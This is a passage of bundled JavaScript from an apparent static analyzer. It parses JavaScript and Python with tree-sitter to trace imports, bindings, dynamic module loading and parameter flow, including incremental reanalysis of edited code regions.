  if (inPlace.type !== "arrow_function" && inPlace.type !== "function_expression" && inPlace.type !== "function_declaration") return null;
  const body2 = inPlace.childForFieldName("body");
  return body2?.type === "statement_block" ? soleReturn(body2) : body2;
}
function soleReturn(body2) {
  const statements = namedChildrenOf(body2);
  return statements.length === 1 && statements[0].type === "return_statement" ? statements[0].namedChild(0) : null;
}
var GETTER = /\bget[ \t]+([\w$]+)(?=\s*\()/g;
function namespaceMembers(exports2, imported, local, bindings, node) {
  const members = membersOf(exports2, imported);
  const entries = Object.entries(members).flatMap(([name2, path2]) => name2.includes(".") ? [] : [[name2, through(path2, node)]]);
  bindings.container(local, entries);
  return bindNamespace(bindings, local, members, node);
}
function heritageOf(heritage) {
  const first = heritage.namedChild(0);
  return first?.type === "extends_clause" ? first.childForFieldName("value") : first;
}
function withDerivedDefinitions(definitions, callees, source, root) {
  const derived = [];
  const add = (name2, value) => derived.push([name2, value]);
  const text = source.slice(root.startIndex, root.endIndex);
  for (const getter of text.matchAll(GETTER)) {
    const name2 = root.descendantForIndex(root.startIndex + getter.index + getter[0].length - getter[1].length);
    const method = name2?.type === "property_identifier" ? name2.parent : null;
    if (method?.type === "method_definition" && method.parent?.type === "class_body") for (const value of getterReturns(method)) add(name2, value);
  }
  const collections = /* @__PURE__ */ new Set();
  for (const [name2, value] of definitions) {
    const at = value.startIndex;
    const opens = source[at];
    if (opens === "[" || (opens === "n" || opens === "P") && privateHelperAt(COLLECTION_AT, source, at) || opens === "f" && value.type === "generator_function") collections.add(identifierAt(source, name2.startIndex) ?? "");
  }
  for (const generator of text.matchAll(GENERATOR_NAME)) collections.add(generator[1]);
  const named2 = (at) => collections.size > 0 && collections.has(identifierAt(source, at) ?? "");
  let functions;
  const inPlace = (at) => IN_PLACE_START.has(source[at]) && privateHelperAt(CARRIER_AT, source, at);
  const loopAt = (index) => {
    const statement = root.descendantForIndex(root.startIndex + index)?.parent;
    const left = statement?.type === "for_in_statement" ? statement.childForFieldName("left") : null;
    const right = left && statement.childForFieldName("right");
    if (right && (inPlace(right.startIndex) || named2(right.startIndex))) add(left, right);
  };
  for (const loop of text.matchAll(FOR_OF)) {
    const at = root.startIndex + loop.index + loop[0].length;
    if (inPlace(at) || named2(at)) loopAt(loop.index);
  }
  for (const loop of text.matchAll(FOR_OF_LONG_PATTERN)) loopAt(loop.index);
  for (const [callee, kind] of callees) {
    if (kind !== "call") continue;
    const start3 = callee.startIndex;
    if (privateHelperAt(PRIVATE_WRITE_AT, source, start3)) {
      const args2 = callee.parent.childForFieldName("arguments");
      const value = namedChildrenOf(args2)[2];
      if (value) add(args2, value);
      continue;
    }
    const carrying = inPlace(start3) ? "in place" : named2(start3) ? "named" : privateHelperAt(PROMISE_OF_NAME_AT, source, start3) || source[start3] === "(" && source.startsWith("then", callee.endIndex - 4) && calledInPlace(callee.childForFieldName("object")) ? "promise" : void 0;
    const end = carrying && callee.endIndex;
    if (end && (carrying !== "named" || NAME_MEMBER.test(source.slice(start3, end))) && CALLBACK_END.test(source.slice(Math.max(start3, end - 8), end)) && callee.type === "member_expression") {
      const property = callee.childForFieldName("property");
      if (property && CALLBACK_METHODS.has(property.text)) {
        for (const argument of namedChildrenOf(callee.parent)) {
          const type = argument.type;
          const named3 = type === "identifier" ? (functions ??= topLevelFunctions(programOf(root))).get(argument.text) : void 0;
          if (type === "arrow_function" || type === "function_expression" || named3) add(property, named3 ?? argument);
        }
      }
      continue;
    }
    if (end && carrying === "named" && source.startsWith("set", end - 3) && NAME_MEMBER.test(source.slice(start3, end))) {
      const args2 = namedChildrenOf(callee.parent);
      if (args2.length === 2) add(callee, args2[1]);
      continue;
    }
    if (!source.startsWith("import", start3) && !source.startsWith("Object", start3) || callee.type !== "member_expression") continue;
    if (source.startsWith("import", start3)) {
      const property = callee.childForFieldName("property");
      if (property?.text !== "then" || callee.childForFieldName("object")?.childForFieldName("function")?.type !== "import") continue;
      for (const argument of namedChildrenOf(callee.parent)) if (argument.type === "arrow_function" || argument.type === "function_expression") add(property, argument);
    } else if (source.startsWith("Object", start3) && source.slice(start3, callee.endIndex).replace(/\s+/g, "") === DEFINE_PROPERTY) {
      const args2 = callee.parent.childForFieldName("arguments");
      const descriptor = namedChildrenOf(args2)[2];
      const value = descriptor?.type === "object" ? describedValue(descriptor) : null;
      if (value) add(args2, value);
    } else if (source.startsWith("Object", start3) && source.slice(start3, callee.endIndex).replace(/\s+/g, "") === SET_PROTOTYPE) {
      const args2 = callee.parent.childForFieldName("arguments");
      const prototype = namedChildrenOf(args2)[1];
      if (prototype) add(args2, prototype);
    } else if (source.startsWith("Object", start3) && source.slice(start3, callee.endIndex).replace(/\s+/g, "") === ASSIGN) {
      const [target, ...sources] = namedChildrenOf(callee.parent);
      const text2 = target && source.slice(target.startIndex, target.endIndex).replace(/\s+/g, "");
      if (target && EXPORTS_OBJECT.test(text2)) {
        for (const object of sources) if (object?.type === "object") add(target, object);
      }
    }
  }
  if (derived.length === 0) return definitions;
  derived.sort(([a], [b]) => a.startIndex - b.startIndex);
  const out2 = [];
  let next = 0;
  for (const definition of definitions) {
    while (next < derived.length && derived[next][0].startIndex < definition[0].startIndex) out2.push(derived[next++]);
    out2.push(definition);
  }
  return out2.concat(derived.slice(next));
}
function thenParameter(member, callback, resolver, bindings) {
  const object = member.childForFieldName("object");
  const param = firstParameter(callback);
  if (param?.type === "array_pattern" && object) return bindLoop(param, object, resolver, bindings, () => bindings.scopeOf(param));
  const then = member.childForFieldName("property")?.text === "then";
  const path2 = object && (resolver.elementOf(object) ?? (object.type === "identifier" && !then ? void 0 : resolver.resolve(object)));
  const loaded = !path2 && object ? resolver.projectRequire(object) : void 0;
  if (!path2 && loaded === void 0) return;
  const call2 = member.parent;
  if (param?.type === "object_pattern") {
    const exported = path2 ? void 0 : resolver.projectExports(loaded);
    bindDestructured(param, (key) => path2 ? normalMembers(extend(through(path2, call2), key)) : exported[key] && through(normalMembers(exported[key]), call2), bindings, resolver);
  }
  if (param?.type !== "identifier") return;
  if (path2) bindings.bind(bindings.scopeOf(param), param.text, through(path2, call2));
  else bindNamespace(bindings, param.text, resolver.projectExports(loaded), call2);
}
function importStatement(node, bindings, filter, imports, project2) {
  const text = node.text;
  if (/^import\s+type\b/.test(text)) return;
  const source = node.childForFieldName("source");
  let specifier = source ? stringValue(source) : void 0;
  let clause;
  const requireClause = node.namedChildren.find((c) => c?.type === "import_require_clause");
  if (requireClause) {
    const str = requireClause.namedChildren.find((c) => c?.type === "string");
    specifier = str ? stringValue(str) : void 0;
    const local = requireClause.namedChildren.find((c) => c?.type === "identifier");
    if (specifier === void 0 || !local) return;
    const module3 = normalModule(specifier);
    if (project2 && (specifier.startsWith(".") || !filter.relevant(module3) && project2.resolves(specifier))) {
      const whole = project2.lookup(specifier, "default");
      if (whole) bindings.bind(bindings.scopeOf(node), local.text, through(normalMembers(whole), node));
      else if (!bindNamespace(bindings, local.text, project2.exportsOf(specifier), node) && bindings.mayResolve(local.text)) bindings.bind(bindings.scopeOf(node), local.text, void 0);
      return;
    }
    if (!filter.relevant(module3)) {
      if (bindings.mayResolve(local.text)) bindings.bind(bindings.scopeOf(node), local.text, void 0);
      return;
    }
    imports.push({ start: node.startIndex, end: node.endIndex, module: module3, star: false });
    bindings.bind(bindings.scopeOf(node), local.text, through({ module: module3, members: [] }, node, false));
    return;
  }
  if (specifier === void 0) return;
  if (node.type === "export_statement") return reexportStatement(node, normalModule(specifier), bindings, filter, imports);
  if (project2 && (specifier.startsWith(".") || !filter.relevant(normalModule(specifier)) && project2.resolves(specifier))) return projectImport(node, specifier, bindings, project2);
  const module2 = normalModule(specifier);
  const watched = filter.relevant(module2);
  const object = LOADER_MODULES.get(module2);
  if (!watched && !object && !identifiersIn(text).some((name2) => globalPath(name2) !== void 0)) return;
  if (watched) imports.push({ start: node.startIndex, end: node.endIndex, module: module2, star: false });
  clause = node.namedChildren.find((c) => c?.type === "import_clause");
  if (!clause) return;
  const scope = bindings.scopeOf(node);
  const bind = (local, path2) => {
    if (watched) bindings.bind(scope, local, normalMembers(through(path2, node, false)));
    else if (object) bindings.bind(scope, local, extend(object, ...normalMembers(path2).members));
    else if (bindings.mayResolve(local)) bindings.bind(scope, local, void 0);
  };
  for (const part of clause.namedChildren) {
    if (!part) continue;
    if (part.type === "identifier") bind(part.text, { module: module2, members: [] });
    else if (part.type === "namespace_import") {
      const local = part.namedChildren.find((c) => c?.type === "identifier");
      if (local) bind(local.text, { module: module2, members: [] });
    } else if (part.type === "named_imports") {
      for (const spec of part.namedChildren) {
        if (!spec || spec.type !== "import_specifier" || /^type\s/.test(spec.text)) continue;
        const nameNode = spec.childForFieldName("name");
        const alias = spec.childForFieldName("alias") ?? nameNode;
        if (!nameNode || !alias) continue;
        const imported = moduleExportName(nameNode);
        if (imported === void 0) continue;
        bind(alias.text, { module: module2, members: [imported] });
      }
    }
  }
}

// core/scan/region.ts
function reanalyzeRegion(state, change, tree, source, queries, timeLimitMs, language) {
  const { edit, before } = change;
  const delta = edit.newEndIndex - edit.oldEndIndex;
  const { start: start3, end, statements, holder } = touchedStatements(tree.rootNode, change, language.block);
  const oldEnd = end - delta;
  const { bindings } = state;
  if (state.binders.some((at) => at >= start3 && at < oldEnd) || language.bindingText.test(before.slice(start3, oldEnd)) || language.bindingText.test(source.slice(start3, end))) return void 0;
  const { parameters } = state;
  const texts = [before.slice(start3, oldEnd), source.slice(start3, end)];
  const defined = new Set(texts.flatMap((text) => language.definedNames(text)));
  if (texts.some((text) => namesAny(text, parameters.reached)) || defined.size > 0 && language.calledWithValue(before, defined)) return void 0;
  if (texts.some((text) => namesAny(text, state.constants.names))) return void 0;
  if ([...state.calls, ...state.passed].some((call2) => call2.start < start3 && call2.end > start3 || stepAcross(call2.path, start3)) || [...bindings.paths()].some((path2) => stepAcross(path2, start3))) return void 0;
  const captured2 = statements.map((node) => collectCaptures(queries, node, timeLimitMs));
  const all = (key) => captured2.flatMap((c) => c[key]);
  const region = { scopes: captured2.map((c) => c.scopes), comments: all("comments"), imports: all("imports"), callees: all("callees"), definitions: all("definitions"), locals: all("locals"), args: all("args") };
  if (region.imports.length > 0 || language.binds(region, holder)) return void 0;
  if (region.callees.some(([callee]) => {
    const call2 = language.passingCall(callee);
    return call2 !== void 0 && (call2.method || parameters.functions.has(call2.name) || defined.has(call2.name));
  })) return void 0;
  if (!bindings.scopes.replace(start3, oldEnd, delta, region.scopes)) return void 0;
  bindings.shift(oldEnd, delta);
  if (language.makesFactory(start3, end)) return void 0;
  const found = language.callsOf(region);
  const splice = (previous, inRegion, move) => [...previous.filter((item) => item.start < start3).map((item) => move(item, false)), ...inRegion, ...previous.filter((item) => item.start >= oldEnd).map((item) => move(item, true))];
  const moveCall = (call2, after) => {
    const path2 = shiftPath(call2.path, oldEnd, delta);
    return after ? { ...call2, start: call2.start + delta, end: call2.end + delta, path: path2 } : path2 === call2.path ? call2 : { ...call2, path: path2 };
  };
  const next = {
    ...state,
    binders: state.binders.map((at) => at >= oldEnd ? at + delta : at),
    calls: splice(state.calls, found.calls, moveCall),
    passed: splice(state.passed, found.passed, moveCall),
    imports: state.imports.map((site) => site.start >= oldEnd ? { ...site, start: site.start + delta, end: site.end + delta } : site),
    comments: [
      ...state.comments.filter((c) => c.startIndex < start3),
      ...region.comments.map(commentText),
      ...state.comments.filter((c) => c.startIndex >= oldEnd).map((c) => ({ ...c, startIndex: c.startIndex + delta, endIndex: c.endIndex + delta }))
    ]
  };
  return { calls: [...next.calls, ...next.passed], imports: next.imports, comments: next.comments, exports: bindings.exported(), state: next };
}
function touchedStatements(root, { edit, changed }, block) {
  let lo = edit.startIndex;
  let hi = edit.newEndIndex;
  for (const range of changed) {
    lo = Math.min(lo, range.startIndex);
    hi = Math.max(hi, range.endIndex);
  }
  let holder = root.descendantForIndex(Math.max(0, lo - 1), hi + 1);
  while (holder && holder.parent && !(holder.type === block && holder.startIndex < lo - 1 && holder.endIndex > hi + 1)) holder = holder.parent;
  holder ??= root;
  const statements = [];
  for (let node = holder.firstChildForIndex(Math.max(0, lo - 1)); node && node.startIndex <= hi; node = node.nextSibling) statements.push(node);
  const first = statements[0];
  const last = statements[statements.length - 1];
  return { start: Math.min(lo, first?.startIndex ?? lo), end: Math.max(hi, last?.endIndex ?? hi), statements, holder };
}
var namesAny = (text, names) => identifiersIn(text).some((word) => names.has(word));

// core/scan/javascript-edit.ts
var MODULE_WORD = /\b(?:import|require)\b/;
var DEFINED = /\bfunction\s*\*?\s*([$\p{L}_][$\p{L}\p{N}_]*)|([$\p{L}_][$\p{L}\p{N}_]*)\s*[=:]\s*(?:async\s*)?(?:function\b|\([^()]*\)\s*(?::[^=]*)?=>|[$\p{L}_][$\p{L}\p{N}_]*\s*=>)/gu;
function reanalyzeJavaScript(state, change, tree, source, language, typescript, filter, withComments, timeLimitMs) {
  if (withComments !== state.withComments) return void 0;
  const { bindings } = state;
  const known = knownTo(bindings);
  const deadline = new Deadline(timeLimitMs);
  return reanalyzeRegion(state, change, tree, source, javaScriptQuery(language, typescript, withComments), timeLimitMs, {
    block: "statement_block",
    bindingText: MODULE_WORD,
    binds: ({ locals, definitions, callees }, holder) => insideQuoted(holder) || locals.some(([node, outer]) => shadows(bindings, identifierAt(source, node.startIndex)) || !outer && knownDefaultAt(source, node, known) !== void 0) || withDerivedDefinitions(definitions, callees, source, holder).some(([nameNode, value]) => readDeclaration(source, nameNode, value, known, bindings).binds),
    // A class's methods have too many forms to read from text: any name of a class's text.
    definedNames: (text) => /\bclass\b/.test(text) ? identifiersIn(text) : Array.from(text.matchAll(DEFINED), (m) => m[1] ?? m[2]),
    calledWithValue: (text, names) => calledWithValue(text, names, known),
    passingCall: (callee) => {
      const call2 = passingCall(source, callee, known);
      return call2 && { name: call2.name, method: call2.owner !== void 0 || call2.name === "super" };
    },
    makesFactory: (start3, end) => {
      const resolver = new Resolver(bindings, filter, void 0, state.constants, deadline, state.strictFile);
      return makesFactory(source, tree.rootNode, known, (node) => resolver.returnedValue(node), JS_FACTORIES, start3, end);
    },
    callsOf: ({ callees, args: args2 }) => callsOf(callees, args2, new Resolver(bindings, filter, void 0, state.constants, deadline, state.strictFile), bindings, known, source)
  });
}
function insideQuoted(holder) {
  for (let node = holder; node?.parent; node = node.parent) {
    const parent = node.parent;
    if (parent.type === "call_expression" && parent.childForFieldName("function")?.id === node.id) return true;
    if (parent.type === "new_expression" && parent.childForFieldName("constructor")?.id === node.id) return true;
    const holder2 = parent.type === "as_expression" || parent.type === "satisfies_expression" ? parent.parent : parent;
    if ((node.type === "object" || node.type === "array") && (assigns(holder2) || holder2?.type === "variable_declarator" && moduleLevel(holder2.childForFieldName("name") ?? node))) return true;
  }
  return false;
}

// core/scan/python-parameters.ts
var PY_CALL = /(?:(?:self|cls)\s*\.\s*|(super)\s*\(\s*\)\s*\.\s*)?([\p{L}_][\p{L}\p{N}_]*)\s*\(/uy;
var OWNER = /(?:self|cls)\s*\./y;
var PY_DEFAULT = /\s*(?::[^=,()\n]*)?=(?!=)\s*/y;
var SLOT_TARGET = /\s*[.[]/y;
var STATIC = /@staticmethod\b/;
var CLASSES3 = /* @__PURE__ */ new Set(["class_definition"]);
var MAX_BASES2 = 4;
function pythonParameters({ source, bindings, captures, resolve, crosses, known, binders }) {
  const { callees, locals, definitions } = captures;
  const defs = /* @__PURE__ */ new Map();
  for (const [node, outer] of locals) if (outer) defs.set(identifierAt(source, node.startIndex), [...defs.get(identifierAt(source, node.startIndex)) ?? [], node]);
  const occurrences = () => [
    ...definitions.flatMap(([nameNode]) => {
      const name2 = identifierAt(source, nameNode.startIndex);
      if (!name2) return [];
      SLOT_TARGET.lastIndex = nameNode.startIndex + name2.length;
      return SLOT_TARGET.test(source) ? [] : [{ name: name2, at: nameNode.startIndex, scope: bindings.scopeOf(nameNode) }];
    }),
    ...locals.filter(([, outer]) => !outer).map(([node]) => ({ name: identifierAt(source, node.startIndex), at: node.startIndex, scope: bindings.scopeOf(node) }))
  ];
  const binder = new ParameterBinder(bindings, binders, occurrences);
  const mayResolve = (node) => source[node.startIndex] === "(" || known(identifierAt(source, node.startIndex));
  const range = (node) => ({ start: node.startIndex, end: node.endIndex });
  const defaults = () => {
    let bound = false;
    for (const [node, outer] of locals) {
      if (outer || !knownDefault(source, node, known)) continue;
      const name2 = identifierAt(source, node.startIndex);
      const param = node.parent;
      const list = param?.parent;
      if (param?.type !== "default_parameter" && param?.type !== "typed_default_parameter" || !list) continue;
      const value = param.childForFieldName("value");
      const path2 = value && resolve(value);
      if (path2 && crosses(path2)) bound = binder.bind(node, name2, [bindings.scopeOf(node)], range(list), through(path2, param), param) || bound;
    }
    return bound;
  };
  let first = true;
  const ordered = {};
  const round = (fresh) => {
    let bound = first && defaults();
    first = false;
    const pending = [];
    for (const [callee] of callsSeeing(callees, ordered, fresh)) {
      if (fresh && !fresh.covers(callee.startIndex)) continue;
      const match = passingCall2(source, callee, fresh ? (word) => word !== void 0 && fresh.at(word, callee.startIndex) : known, (name3) => defs.has(name3));
      if (!match) continue;
      const { sup, name: name2 } = match;
      const call2 = callee.parent;
      if (call2?.type !== "call") continue;
      const passed = passedArguments2(call2, mayResolve, (node) => {
        const path2 = resolve(node);
        return bindable(path2, crosses) ? path2 : void 0;
      });
      if (passed.length === 0) continue;
      binder.reached.add(name2);
      OWNER.lastIndex = callee.startIndex;
      const targets = sup || OWNER.test(source) ? methodTargets(call2, name2, sup) : functionTargets(call2, name2);
      for (const [fn, skipFirst] of targets) pending.push([fn, skipFirst, passed, call2]);
    }
    for (const [fn, skipFirst, passed, call2] of pending) bound = bindParameters(fn, skipFirst, passed, call2) || bound;
    return bound;
  };
  const visible = /* @__PURE__ */ new Map();
  const functionTargets = (call2, name2) => {
    const out2 = [];
    for (const nameNode of visibleDefinitions(bindings, visible, name2, defs.get(name2), (n) => bindings.scopeOf(n, n.parent), call2.startIndex)) {
      const def = nameNode.parent;
      if (def.type === "function_definition") out2.push([def, false]);
      else if (def.type === "class_definition") {
        const init2 = methodIn(def, "__init__", false);
        if (init2) out2.push(init2);
      }
    }
    return out2;
  };
  const methodTargets = (call2, name2, sup) => {
    const cls = enclosing(call2, CLASSES3, { hit: false });
    const found = cls && methodIn(cls, name2, sup);
    return found ? [found] : [];
  };
  const methodsOf = /* @__PURE__ */ new Map();
  const methods = (cls) => {
    let byName = methodsOf.get(cls.id);
    if (byName) return byName;
    methodsOf.set(cls.id, byName = /* @__PURE__ */ new Map());
    for (const child of cls.childForFieldName("body")?.namedChildren ?? []) {
      const fn = child?.type === "decorated_definition" ? child.childForFieldName("definition") : child;
      const fnName = fn?.type === "function_definition" ? fn.childForFieldName("name")?.text : void 0;
      if (fnName !== void 0 && !byName.has(fnName)) byName.set(fnName, [fn, !STATIC.test(source.slice(child.startIndex, fn.startIndex))]);
    }
    return byName;
  };
  const methodIn = (cls, name2, skipSelf, depth = 0) => {
    if (depth > MAX_BASES2) return void 0;
    const own = skipSelf ? void 0 : methods(cls).get(name2);
    if (own) return own;
    for (const base of cls.childForFieldName("superclasses")?.namedChildren ?? []) {
      const baseName2 = base?.type === "identifier" ? base.text : base?.type === "subscript" ? base.childForFieldName("value")?.text : void 0;
      for (const nameNode of (baseName2 && defs.get(baseName2) || []).slice(0, MAX_SAME_NAME)) {
        const found = nameNode.parent?.type === "class_definition" ? methodIn(nameNode.parent, name2, false, depth + 1) : void 0;
        if (found) return found;
      }
    }
    return void 0;
  };
  const parameterLists = /* @__PURE__ */ new Map();
  const parameterList = (fn, skipFirst) => {
    const key = `${fn.id}:${skipFirst}`;
    if (parameterLists.has(key)) return parameterLists.get(key);
    const list = fn.childForFieldName("parameters");
    const out2 = list ? { node: list, byPosition: [], byName: /* @__PURE__ */ new Map() } : void 0;
    parameterLists.set(key, out2);
    if (!list || !out2) return void 0;
    let position = skipFirst ? -1 : 0;
    let positional = true;
    for (const param of list.namedChildren) {
      if (!param || isComment(param) || param.type === "positional_separator" || param.type === "dictionary_splat_pattern") continue;
      if (param.type === "keyword_separator" || param.type === "list_splat_pattern") {
        positional = false;
        continue;
      }
      const ident = param.type === "identifier" ? param : param.type === "typed_parameter" ? param.namedChild(0) : param.childForFieldName("name");
      const index = positional ? position++ : void 0;
      if (ident?.type !== "identifier") continue;
      if (index !== void 0 && index >= 0) out2.byPosition[index] = [ident, param];
      out2.byName.set(ident.text, [ident, param]);
    }
    return out2;
  };
  const bindParameters = (fn, skipFirst, passed, call2) => {
    const list = parameterList(fn, skipFirst);
    if (!list) return false;
    let bound = false;
    for (const arg of passed) {
      const target = arg.keyword !== void 0 ? list.byName.get(arg.keyword) : arg.position !== void 0 ? list.byPosition[arg.position] : void 0;
      if (!target) continue;
      const [ident, param] = target;
      bound = binder.bind(ident, ident.text, [bindings.scopeOf(ident)], range(list.node), passedThrough(arg.path, call2, param), call2) || bound;
    }
    return bound;
  };
  return { round, facts: { functions: new Set(defs.keys()), reached: binder.reached } };
}
function passedArguments2(call2, mayResolve, resolve) {
  const list = call2.childForFieldName("arguments");
  if (list?.type !== "argument_list") return [];
  const out2 = [];
  let position = 0;
  for (const arg of list.namedChildren) {
    if (!arg || isComment(arg)) continue;
    if (arg.type === "list_splat" || arg.type === "dictionary_splat") {
      position = void 0;
      continue;
    }
    const keyword = arg.type === "keyword_argument" ? arg.childForFieldName("name")?.text : void 0;
    const value = arg.type === "keyword_argument" ? arg.childForFieldName("value") : arg;
    const at = keyword === void 0 && position !== void 0 ? position++ : void 0;
    const path2 = value?.type === "dictionary" ? dictValue(value, mayResolve, resolve) : value && mayResolve(value) ? resolve(value) : void 0;
    if (path2 && (keyword !== void 0 || at !== void 0)) out2.push({ position: at, keyword, path: path2 });
  }
  return out2;
}
function dictValue(dict, mayResolve, resolve) {
  const entries = /* @__PURE__ */ new Map();
  for (const pair of dict.namedChildren) {
    const key = pair?.type === "pair" ? pair.childForFieldName("key") : null;
    const value = pair?.childForFieldName("value");
    const name2 = key?.type === "string" && !key.namedChildren.some((part) => part?.type === "interpolation") ? stringValue(key) : void 0;
    const path2 = name2 !== void 0 && value && mayResolve(value) ? resolve(value) : void 0;
    if (path2 && !entries.has(name2)) entries.set(name2, [path2, pair]);
  }
  return entries.size ? objectValue(entries) : void 0;
}
function passingCall2(source, callee, known, defined = () => true) {
  PY_CALL.lastIndex = callee.startIndex;
  const match = PY_CALL.exec(source);
  if (!match || !defined(match[2]) || !mayPass(source, PY_CALL.lastIndex - 1, known)) return void 0;
  return { sup: match[1] !== void 0, name: match[2] };
}
function knownDefault(source, node, known) {
  PY_DEFAULT.lastIndex = node.startIndex + identifierAt(source, node.startIndex).length;
  return PY_DEFAULT.test(source) && known(identifierAt(source, PY_DEFAULT.lastIndex));
}

// core/scan/python.ts
var PYTHON_QUERY = `
[(function_definition) (lambda) (list_comprehension) (set_comprehension) (dictionary_comprehension) (generator_expression)] @scope
(class_definition) @scope.class
(import_statement) @import
(import_from_statement) @import
(call function: [(identifier) (attribute) (parenthesized_expression) (call) (subscript)] @callee)
(argument_list [(identifier) (attribute)] @arg)
(keyword_argument value: [(identifier) (attribute)] @arg)
(pair value: [(identifier) (attribute)] @arg)
(list [(identifier) (attribute)] @arg)
(tuple [(identifier) (attribute)] @arg)
(set [(identifier) (attribute)] @arg)
(expression_list [(identifier) (attribute)] @arg)
(parenthesized_expression [(identifier) (attribute)] @arg)
(conditional_expression [(identifier) (attribute)] @arg)
(boolean_operator [(identifier) (attribute)] @arg)
(yield [(identifier) (attribute)] @arg)
(assignment left: [(identifier) (attribute) (subscript)] @def.name right: (_) @def.value)
(named_expression name: (identifier) @def.name value: (_) @def.value)
(with_item) @def.with
(class_definition name: (identifier) @def.name superclasses: (argument_list) @def.value)
(assignment left: [(pattern_list) (tuple_pattern) (list_pattern)] right: (_) @unpack)
(for_statement left: (_) @loop right: (_) @unpack)
(for_in_clause left: (_) @loop right: (_) @unpack)
(match_statement) @match
(decorated_definition definition: [(function_definition) (class_definition)]) @decorated
(decorated_definition (decorator [(identifier) (attribute)] @property (#match? @property "^(functools[.])?(cached_)?property$")) definition: (function_definition name: (identifier) @def.name body: (block (return_statement (_) @def.value))))
(parameters (identifier) @local)
(parameters (default_parameter name: (identifier) @local))
(parameters (typed_parameter (identifier) @local))
(parameters (typed_default_parameter name: (identifier) @local))
(parameters (list_splat_pattern (identifier) @local))
(parameters (dictionary_splat_pattern (identifier) @local))
(lambda_parameters (identifier) @local)
(lambda_parameters (default_parameter name: (identifier) @local))
(lambda_parameters (list_splat_pattern (identifier) @local))
(lambda_parameters (dictionary_splat_pattern (identifier) @local))
(function_definition name: (identifier) @outer)
(class_definition name: (identifier) @outer)
(pattern_list (identifier) @local)
(tuple_pattern (identifier) @local)
(for_statement left: (identifier) @local)
(for_in_clause left: (identifier) @local)
(as_pattern_target (identifier) @local)
(augmented_assignment left: (identifier) @local)
`;
var DYNAMIC = PY_DYNAMIC_NAMES;
var CLASS_OF = /* @__PURE__ */ new Set(["type", "types"]);
var CLASS_ATTRIBUTE = "__class__";
var DICT_ATTRIBUTE = "__dict__";
var UNBOUND_READ_TEXT = /\.\s*__getattribute__\s*\(/;
var OWN_MODULE2 = "<own module>";
var SELF = "__self__";
var NAMESPACE = "__dict__";
var SCOPE_DICTS = /* @__PURE__ */ new Set(["globals", "locals", "vars"]);
var IMPORTER_WORD = /\b(?:__import__|import_module)\b/;
var IMPORTERS = /* @__PURE__ */ new Set(["importlib.import_module", "import_module", "__import__", "importlib.__import__", "builtins.__import__", "__builtins__.__import__"]);
var RELATIVE_NAME = /^[rRuUfF]{0,2}['"]\./;
var SPEC_FINDERS = /* @__PURE__ */ new Set(["importlib.util.find_spec", "util.find_spec", "find_spec"]);
var SPEC_LOADERS = /* @__PURE__ */ new Set(["importlib.util.module_from_spec", "util.module_from_spec", "module_from_spec"]);
var SPEC = "__spec__";
var PATH_FINDER = "importlib.machinery.PathFinder.find_spec";
var PATH_FINDER_MAKERS = /* @__PURE__ */ new Set(["importlib.machinery.PathFinder", "zipimport.zipimporter"]);
var FINDER_MODULE = /^(?:importlib|zipimport)\b/;
var PATH_SPEC_FINDERS = new Set([...PATH_FINDER_MAKERS].map((maker) => `${maker}.${RETURNED}.find_spec`));
var UNREAD_SPEC = "<unread spec>";
var SPEC_RUN = /\.\s*loader\s*\.\s*(?:exec_module|load_module)$/;
var NAME_RESOLVERS = /* @__PURE__ */ new Set(["pkgutil.resolve_name", "resolve_name"]);
var NAME_RESOLVER_CALL = /(?:locate|resolve|load)$/;
var LOADER_NAMES = new Set([...SPEC_FINDERS, ...SPEC_LOADERS, ...IMPORTERS, ...NAME_RESOLVERS].filter((name2) => !name2.includes(".")));
var ATTRIBUTE_READERS = /(?:^|\.)(?:getattr|attrgetter|vars|__getattribute__|__dict__)$/;
var ATTRIBUTE_GETTERS = /* @__PURE__ */ new Set(["operator.attrgetter", "attrgetter"]);
var METHOD_CALLERS = /* @__PURE__ */ new Set(["operator.methodcaller", "methodcaller"]);
var METHOD_CALLER_AT = /^(?:operator\s*\.\s*)?methodcaller\s*\(/;
var NAMESPACE_COPIERS = /* @__PURE__ */ new Map([["dict", true], ["copy.copy", true], ["types.MappingProxyType", true], ["collections.ChainMap", true], ["types.SimpleNamespace", false], ["SimpleNamespace", false]]);
var NAMESPACE_COPY_AT = /(?:dict(?:\s*\.\s*(?:get|__getitem__|pop|setdefault))?|copy\s*\.\s*copy|types\s*\.\s*MappingProxyType|collections\s*\.\s*ChainMap|(?:types\s*\.\s*)?SimpleNamespace)\s*\(/y;
var namespaceCopyAt = (source, at) => {
  NAMESPACE_COPY_AT.lastIndex = at;
  return NAMESPACE_COPY_AT.test(source);
};
var CARRIERS = /* @__PURE__ */ new Set(["enumerate", "zip", "sorted", "reversed", "iter", "list", "tuple"]);
var CARRIER_AT2 = new RegExp(`(?:${[...CARRIERS].join("|")})\\s*\\(`, "y");
var carrierAt = (source, at) => {
  CARRIER_AT2.lastIndex = at;
  return CARRIER_AT2.test(source);
};
var ENTRY_READERS = /* @__PURE__ */ new Set(["get", "__getitem__", "pop", "setdefault"]);
var UNBOUND_ENTRY_READERS = /* @__PURE__ */ new Set(["operator.getitem", "dict.get", "dict.__getitem__", "dict.pop", "dict.setdefault"]);
var DICT_READERS = /* @__PURE__ */ new Set(["get", "pop", "setdefault"]);
function analyzePython(tree, source, language, filter, withComments, timeLimitMs, project2) {
  const deadline = new Deadline(timeLimitMs);
  const { scopes, comments, imports: importNodes, callees, definitions: captured2, locals, args: args2 } = collectCaptures(queryOf(language, PYTHON_QUERY, withComments), tree.rootNode, timeLimitMs);
  const bindings = new Bindings(scopes, builtinPath, (node) => enclosing(node, DEFERRED) !== void 0);
  const imports = [];
  const binders = importNodes.map((node) => node.startIndex);
  const unwatched = filter.readsModuleAttribute?.(source) ? [] : void 0;
  for (const node of importNodes) {
    importStatement2(node, bindings, filter, imports, unwatched, project2);
    hideImportedEvaluators(node, bindings, source);
  }
  const unwatchedNames = /* @__PURE__ */ new Map();
  for (const [scope, local, module2, site] of unwatched ?? []) {
    if (bindings.names.has(local) && !unwatchedNames.has(local)) continue;
    if (filter.relevant(local) || unwatchedNames.has(local) && unwatchedNames.get(local) !== module2) continue;
    bindings.bind(scope, local, pathOf(module2, site));
    unwatchedNames.set(local, module2);
  }
  const dynamic = DYNAMIC_TEXT.test(source);
  const constants = new Constants();
  const stateOf = (calls2, passed2, parameters2 = NO_PARAMETERS) => dynamic ? void 0 : { bindings, binders, calls: calls2, passed: passed2, imports, comments: comments.map(commentText), withComments, parameters: parameters2, constants };
